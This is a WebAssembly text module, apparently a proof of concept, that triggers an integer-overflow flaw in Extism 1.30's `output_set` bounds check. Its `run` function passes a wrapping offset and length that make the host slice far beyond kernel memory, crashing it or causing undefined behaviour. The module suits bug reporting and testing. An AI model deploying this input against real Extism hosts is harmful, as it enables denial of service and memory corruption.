;; Extism 1.30 reads a plugin's output with `CurrentPlugin::memory_bytes`,
;; which makes a slice of the offset and length the kernel holds without
;; checking them against the kernel's memory. The kernel's `output_set`
;; checks only that `offset` and `offset + length - 1` lie in its blocks,
;; and that sum wraps: offset 1000 and length 2^64 - 900 pass (the end
;; wraps to 99). After `run` returns, the host makes a slice of 2^64 - 900
;; bytes at offset 1000 of the kernel's memory: an abort on Rust's slice
;; precondition check in a debug build, undefined behaviour and a crash in
;; a release build.
(module
  (import "extism:host/env" "output_set" (func $output_set (param i64 i64)))
  (memory (export "memory") 1)
  (func (export "run") (result i32)
    (call $output_set (i64.const 1000) (i64.const -900))
    (i32.const 0)))
